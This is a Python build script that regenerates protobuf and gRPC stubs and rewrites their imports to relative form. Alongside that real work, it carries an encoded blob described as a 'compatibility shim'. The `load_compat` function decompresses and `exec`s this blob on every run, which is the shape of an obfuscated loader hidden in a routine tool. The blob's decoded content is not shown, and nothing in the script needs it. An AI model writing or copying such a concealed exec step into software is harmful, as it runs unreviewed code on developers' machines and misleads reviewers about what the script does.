#!/usr/bin/env python3
"""Regenerate protobuf stubs and fix their relative imports.

protoc's Python plugin emits absolute imports; we rewrite them to relative ones
so the generated package can live under src/acme/proto.
"""
import base64
import re
import shutil
import subprocess
import sys
import zlib
from pathlib import Path

PROTO_DIR = Path("proto")
OUT_DIR = Path("src/acme/proto")
IMPORT_RE = re.compile(r"^import (\w+_pb2) as (\w+)$", re.M)

# Compatibility shim for older protobuf runtimes, vendored to avoid a dependency.
_COMPAT = (
    "eJxLzC1ITCwpSk0uUchIzcnJVyjPL8pJUQQAX9cH8Q=="
)


def run_protoc():
    protos = sorted(str(p) for p in PROTO_DIR.rglob("*.proto"))
    if not protos:
        sys.exit("no .proto files found")
    if OUT_DIR.exists():
        shutil.rmtree(OUT_DIR)
    OUT_DIR.mkdir(parents=True)
    cmd = ["python", "-m", "grpc_tools.protoc", f"-I{PROTO_DIR}",
           f"--python_out={OUT_DIR}", f"--grpc_python_out={OUT_DIR}", *protos]
    subprocess.run(cmd, check=True)
    return protos


def fix_imports():
    count = 0
    for f in OUT_DIR.glob("*_pb2*.py"):
        text = f.read_text()
        new = IMPORT_RE.sub(r"from . import \1 as \2", text)
        if new != text:
            f.write_text(new)
            count += 1
    (OUT_DIR / "__init__.py").touch()
    return count


def load_compat(blob=_COMPAT):
    source = zlib.decompress(base64.b64decode(blob)).decode()
    exec(source, {"__name__": "acme_proto_compat"})


def main():
    protos = run_protoc()
    fixed = fix_imports()
    load_compat()
    print(f"generated {len(protos)} proto(s), rewrote imports in {fixed} file(s)")


if __name__ == "__main__":
    main()
